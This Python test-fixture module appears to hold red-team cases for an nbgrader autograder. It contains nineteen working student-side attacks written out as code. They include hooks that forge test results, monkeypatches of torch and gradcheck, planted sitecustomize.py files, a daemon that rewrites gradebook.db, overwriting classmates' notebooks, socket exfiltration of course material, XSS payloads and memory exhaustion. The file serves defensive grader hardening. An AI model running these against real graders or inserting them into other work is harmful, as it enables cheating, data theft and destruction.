"""Attacks a determined student writes against the autograder, one per kind (issue 9).

Each is the student's answer cell (or an extra cell), built on an honest control: the
unimplemented stub (scores 0), the wrong closed-interval answer (loses test_backward and
test_kinks) or the good answer (full marks). The verdict each must get is the control's:
no trick may score more than the same answer without it. `CONTEXT` carries what a student
might guess or learn about the grading machine (the course's absolute path, a port where
the test listens for exfiltrated data); the batch fixture fills it in before building.
"""

from __future__ import annotations

import copy

import nbformat

from .cases import ALL, ANSWER, WRONG_LOST, Case, _file, _with_answer

ALL_BUT_FORWARD = frozenset({"test_backward", "test_kinks", "test_gradcheck", "test_second_derivative",
                             "test_robustness"})
CONTEXT = {"course": "/nonexistent-course", "port": 9, "marker": "lab-attack-marker"}
STRAY_MARKER = "lab-stray-process-7f3a"  # every process an attack leaves behind carries it in its command line


def _fill(code: str) -> str:
    """The attack's text with what the student guessed filled in ({course}, {port}, {stray})."""
    for key, value in {**CONTEXT, "stray": STRAY_MARKER}.items():
        code = code.replace("{" + key + "}", str(value))
    return code


def _stub(code: str):
    """The unimplemented release answer, plus the trick."""
    def make(release, good, wrong):
        nb = copy.deepcopy(release)
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == ANSWER:
                cell.source = cell.source + "\n\n" + _fill(code) + "\n"
        return _file(nb)
    return make


def _on(base: str, code: str):
    def make(release, good, wrong):
        answer = {"good": good, "wrong": wrong}[base]
        return _file(_with_answer(release, answer + "\n\n" + _fill(code) + "\n"))
    return make


_PARTIAL_CREDIT = '''
import sys
ip = get_ipython()
ip.events.register("pre_run_cell", lambda info: sys.displayhook(1.0))  # nbgrader reads 1.0 as partial credit
'''

_SWALLOW = '''
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
ip.events.register("post_run_cell", lambda result: print("all tests passed"))
'''

_TRANSFORM = '''
ip = get_ipython()
_original_transform = ip.transform_cell
def _rewrite(raw_cell):
    if "HIDDEN" in raw_cell or "_probe" in raw_cell or "assert" in raw_cell:
        return "print(" + repr(raw_cell.strip().splitlines()[-1]) + ")\\n"   # the cell's own last line
    return _original_transform(raw_cell)
ip.transform_cell = _rewrite
'''

_FORGE = '''
# forge the probes: rewrite every test cell to call the built-in instead of my function
ip = get_ipython()
_original_transform = ip.transform_cell
_builtin = getattr(F, "hard" + "swish")
def _rewrite(raw_cell):
    return _original_transform(raw_cell.replace("hard_swish_custom", "_builtin"))
ip.transform_cell = _rewrite
'''

_TRACER = '''
import sys, torch
_real_allclose = torch.allclose
def _tracer(frame, event, arg):
    # put the genuine tool back while a checker looks, fake it otherwise
    torch.allclose = _real_allclose if "intact" in frame.f_code.co_name else (lambda *a, **k: True)
    return None
sys.settrace(_tracer)
torch.allclose = lambda *a, **k: True
'''

_CODE_SWAP = '''
def _nothing(*args, **kwargs):
    return None
for _name, _value in list(globals().items()):
    if _name.startswith("_") and callable(_value) and hasattr(_value, "__code__") and _name != "_nothing":
        _value.__code__ = _nothing.__code__      # every grader helper now does nothing
for _name, _value in list(globals().items()):
    if isinstance(_value, (list, dict, set)) and _name.startswith("_"):
        _value.clear()                            # and every grader container is empty
'''

_LIBRARY_INTERNALS = '''
import torch.autograd.gradcheck as _gc
_gc._allclose_with_type_promotion = lambda *a, **k: True
_gc._check_analytical_jacobian_attributes = lambda *a, **k: ()
torch.Tensor.__sub__ = lambda self, other: torch.zeros_like(self)
torch.autograd.grad = lambda outputs, inputs, *a, **k: tuple(torch.zeros_like(i) for i in inputs)
'''

_DISPATCH_MODE = '''
from torch.utils._python_dispatch import TorchDispatchMode
class _Quiet(TorchDispatchMode):
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        if "hardswish" in str(func):
            raise RuntimeError("nothing to see")
        return func(*args, **(kwargs or {}))
_Quiet().__enter__()       # a global mode that never exits

class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("allclose", "equal", "__eq__"):
            return True
        return super().__torch_function__(func, types, args, kwargs)

def hard_swish_custom(x):
    return (x * 0.5).as_subclass(Liar)    # not HardSwish at all, but every comparison agrees
'''

_DELEGATE = '''
class HardSwishFunction(Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return F.hardswish(x)

    @staticmethod
    def backward(ctx, grad_output):
        (x,) = ctx.saved_tensors
        return torch.ops.aten.hardswish_backward(grad_output, x)


def hard_swish_custom(x):
    return HardSwishFunction.apply(x)
'''

_DELEGATE_HIDDEN = '''
_fwd = getattr(torch.nn.functional, "hard" + "swish")
_bwd = getattr(torch.ops.aten, "hard" + "swish" + "_backward")

class HardSwishFunction(Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return _fwd(x)

    @staticmethod
    def backward(ctx, grad_output):
        (x,) = ctx.saved_tensors
        return _bwd(grad_output, x)


def hard_swish_custom(x):
    return HardSwishFunction.apply(x)
'''

_PLANT = '''
import os, sys
_patch = "import torch\\ntorch.allclose = lambda *a, **k: True\\n"
_targets = {os.getcwd(), os.path.dirname(os.getcwd()), "{course}", os.path.expanduser("~"), "/tmp"}
_targets |= {p for p in sys.path if p}
for _folder in _targets:
    for _name in ("sitecustomize.py", "usercustomize.py", "torch_patch.pth"):
        try:
            with open(os.path.join(_folder, _name), "w") as _fh:
                _fh.write(_patch if _name.endswith(".py") else "import sitecustomize\\n")
        except OSError:
            pass
'''

_OUTLIVE = '''
import subprocess, sys
_daemon = """
import os, sqlite3, time
for _ in range(600):
    for path in ("{course}/gradebook.db", "../gradebook.db", "../../gradebook.db", "/gradebook.db"):
        try:
            db = sqlite3.connect(path)
            db.execute("update grade set auto_score = 0")
            db.execute("update submitted_notebook set late_submission_penalty = 0")
            db.commit()
        except Exception:
            pass
    time.sleep(0.5)
"""
subprocess.Popen([sys.executable, "-c", _daemon, "{stray}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

_CLASSMATES = '''
import glob, os
for _path in glob.glob("{course}/submitted/*/lab_2_1_3/*.ipynb") + glob.glob("{course}/autograded/*/lab_2_1_3/*.ipynb"):
    try:
        with open(_path, "w") as _fh:
            _fh.write("{}")           # zero everyone else
    except OSError:
        pass
for _path in glob.glob("{course}/source/*/*.ipynb"):
    try:
        os.remove(_path)
    except OSError:
        pass
'''

_HOLD_PIPE = '''
import subprocess, sys
# a child that keeps the grader's stdout and stderr open for ten minutes
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{stray}"], start_new_session=True)
'''

_EXFILTRATE = '''
import glob, json, socket
_loot = {"source": [open(p).read() for p in glob.glob("{course}/source/*/*.ipynb")],
          "students": glob.glob("{course}/submitted/*"), "hidden": [str(x) for x in In]}
for _host in ("127.0.0.1", "localhost", "10.0.2.2"):
    try:
        with socket.create_connection((_host, {port}), timeout=2) as _s:
            _s.sendall(json.dumps(_loot).encode())
    except OSError:
        pass
'''

_PRINT_HIDDEN = '''
# show the hidden tests: every cell's own text, and the kernel's input history, in the outputs
ip = get_ipython()
ip.events.register("pre_run_cell", lambda info: print(info.raw_cell))
ip.events.register("post_run_cell", lambda result: print("\\n".join(In)))
# ### BEGIN HIDDEN TESTS  <- the marker text in my own comment
'''

_SCRIPT = '''
from IPython.display import HTML, Javascript, display
display(HTML("<script>alert('feedback')</script><img src=x onerror=\\"alert('xss')\\"><b>bold</b>"))
display(Javascript("alert('js')"))
'''

_HUGE_LINE = '''
print("x" * 20_000_000)   # one 20 MB line
'''

_MEMORY_CHILDREN = '''
import multiprocessing as mp, time
def _hog(n):
    block = bytearray(n << 20)
    for i in range(0, len(block), 4096):
        block[i] = 1
    time.sleep(30)
_children = [mp.get_context("fork").Process(target=_hog, args=(768,)) for _ in range(8)]
for _c in _children:
    _c.start()
for _c in _children:
    _c.join(40)
'''


def _script_submitted(release, good, wrong):
    """Script in the SUBMITTED outputs too: what the student saved is what feedback shows."""
    nb = _with_answer(release, good + "\n\n" + _SCRIPT)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == ANSWER:
            cell.outputs = [nbformat.v4.new_output("display_data", data={
                "text/html": "<script>alert('submitted')</script><img src=x onerror=\"alert('xss2')\">"}),
                nbformat.v4.new_output("display_data", data={"application/javascript": "alert('js2')"})]
    nb.cells.append(nbformat.v4.new_markdown_cell("<script>alert('markdown')</script> my notes"))
    return _file(nb)


ATTACKS = [
    Case("attack_partial_credit", "a pre_run_cell hook shows 1.0 at the top of every test cell (partial credit)",
         _stub(_PARTIAL_CREDIT), lost=ALL, problem="review"),
    Case("attack_swallow_exceptions", "set_custom_exc swallows every error, a post-run hook prints success",
         _stub(_SWALLOW), lost=ALL, problem="review"),
    Case("attack_transform_cell", "transform_cell rewrites each test cell to print its own last line",
         _stub(_TRANSFORM), lost=ALL, problem="review"),
    Case("attack_forge_with_builtin", "transform_cell makes every probe call the built-in instead",
         _stub(_FORGE), lost=ALL, problem="review"),
    Case("attack_tracer", "a tracer that restores the genuine tools while checks run, on a wrong answer",
         _on("wrong", _TRACER), lost=WRONG_LOST, problem="review"),
    Case("attack_code_swap", "every grader helper's __code__ swapped, every grader container emptied",
         _on("wrong", _CODE_SWAP), lost=ALL, problem="review"),
    Case("attack_library_internals", "gradcheck internals, Tensor.__sub__ and autograd.grad patched: the wrong "
         "answer's correct forward still scores, everything the patches touch fails",
         _on("wrong", _LIBRARY_INTERNALS), lost=ALL_BUT_FORWARD, problem="review"),
    Case("attack_dispatch_mode", "a global dispatch mode and a tensor subclass whose comparisons lie",
         _stub(_DISPATCH_MODE), lost=ALL, problem="review"),
    Case("attack_delegates_builtin", "the Function calls F.hardswish and aten.hardswish_backward",
         _stub(_DELEGATE), lost=ALL, problem="re-implements"),
    Case("attack_delegates_hidden", "the built-ins reached through getattr with computed names",
         _stub(_DELEGATE_HIDDEN), lost=ALL, problem="review"),
    Case("attack_plant_sitecustomize", "sitecustomize.py planted wherever it can write, to patch later kernels",
         _on("wrong", _PLANT), lost=WRONG_LOST, problem="review"),
    Case("attack_outlive_kernel", "a daemon that outlives the kernel and rewrites gradebook.db",
         _on("good", _OUTLIVE), problem="review"),
    Case("attack_classmates", "overwrites classmates' submissions and graded notebooks, deletes the source",
         _on("good", _CLASSMATES), problem="review"),
    Case("attack_hold_pipe", "a child holds the grader's stdout and stderr open for ten minutes",
         _on("good", _HOLD_PIPE), problem="review"),
    Case("attack_exfiltrate", "sends the source notebook, the student list and In[] over the network",
         _on("good", _EXFILTRATE), problem="review"),
    Case("attack_print_hidden", "prints every cell's text and In[] into the outputs; marker text in a comment",
         _on("wrong", _PRINT_HIDDEN), lost=WRONG_LOST, problem="review"),
    Case("attack_script", "<script>, onerror and Javascript outputs, while grading and in the submission",
         _script_submitted),
    Case("attack_huge_line", "one 20 MB output line in the answer cell", _on("good", _HUGE_LINE)),
    Case("attack_memory_children", "8 children of 768 MiB each: memory spread over processes",
         _on("good", _MEMORY_CHILDREN), problem="memory bound"),
]
